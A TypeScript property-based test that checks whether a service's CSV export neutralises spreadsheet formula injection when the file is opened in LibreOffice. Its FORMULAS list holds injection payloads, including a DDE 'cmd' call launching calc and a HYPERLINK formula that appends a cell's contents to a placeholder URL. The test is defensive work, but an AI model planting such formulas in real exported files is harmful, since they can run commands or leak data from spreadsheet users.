import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { hasLibreOffice, openCsv, type Cell } from '../../support/libreoffice';
import { keepStorageThread, NOW, TestStation } from '../support/index';

/** How many texts are opened; `SPREADSHEET_TEXTS=20000` opens more. */
const COUNT = Number(process.env['SPREADSHEET_TEXTS'] ?? 600);

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|'/C calc'!A0",
  '=DDE("soffice";"a";"b")',
  '=HYPERLINK("http://a.example/?"&A1;"b")',
  '{=1+1}',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '﹣1',
  '⁻1',
  '−1',
];

/** What may come before a formula: separators, delimiters of texts, and what is not seen or is dropped. */
const BEFORE = Array.from(
  '",;|\t\r\n\'\0\u0001\u0008\u001b\u007f\u0085\u00a0\u00ad\u034f\u115f\u200b\u2028\u202e\u3000\ufe0f\ufeff ',
);

const WORDS = ['a', 'on', '20.5', '-5', 'é', '😀', 'a-b', 'x = 1', '2026', '()', '/', '%', '\ud800'];

const TEXTS = fc
  .array(fc.constantFrom(...FORMULAS, ...BEFORE, ...BEFORE, ...WORDS), { minLength: 1, maxLength: 12 })
  .map((pieces) => pieces.join('').toWellFormed());

/** A cell of RFC 4180 without any guard. */
const plainCell = (text: string) => `"${text.replaceAll('"', '""')}"`;

describe('A text that is downloaded as CSV', () => {
  keepStorageThread();
  let station: TestStation;
  let folder: string;
  beforeEach(async () => {
    station = await TestStation.start();
    folder = await mkdtemp(join(tmpdir(), 'spreadsheet-'));
  });
  afterEach(async () => {
    await station.close();
    await rm(folder, { recursive: true });
  });

  /** Texts, oldest first, as the station gives them in a download, with one number before them. */
  async function download(texts: readonly string[]): Promise<string> {
    const dateOf = (index: number) => new Date(NOW - (texts.length - index) * 1000).toISOString();
    const history = texts.map((value, index) => ({ date: dateOf(index), value }));
    await station.push({ device: 'd', date: dateOf(-1), signals: [{ name: 'number', value: -5.5 }] });
    assert.equal((await station.push({ device: 'd', signals: { text: { history } } })).status, 200);
    return (await station.fetch('/api/download?kind=device&source=d')).text;
  }

  it('makes no cell of LibreOffice a formula, whatever separates the cells', async function () {
    if (!hasLibreOffice()) {
      this.skip();
      return;
    }
    const seed = Date.now() % 2 ** 31;
    const texts = fc.sample(TEXTS, { numRuns: COUNT, seed });
    const [guarded, plain] = [join(folder, 'guarded.csv'), join(folder, 'plain.csv')];
    await writeFile(guarded, await download(texts));
    await writeFile(plain, texts.map((text) => `0,text,${plainCell(text)}\r\n`).join(''));
    for (const separators of [',', ';', '\t', ',;\t|']) {
      const [cells = [], unguarded = []] = await openCsv([guarded, plain], folder, separators);
      const seen = `${JSON.stringify(separators)}, seed ${seed}`;
      assert.deepEqual(
        cells.filter(({ isFormula }) => isFormula),
        [],
        seen,
      );
      assert(
        unguarded.some(({ isFormula }) => isFormula),
        `Formulas are to be seen as such: ${seen}`,
      );
      if (separators === ',') assertReadable(cells);
    }
  });
});

function assertReadable(cells: readonly Cell[]): void {
  assert.equal(cells.filter(({ text }) => text === 'text').length, COUNT);
  const number = cells.findIndex(({ text }) => text === 'number');
  assert.deepEqual(cells[number + 1], { isFormula: false, type: 'float', text: '-5.5' });
}
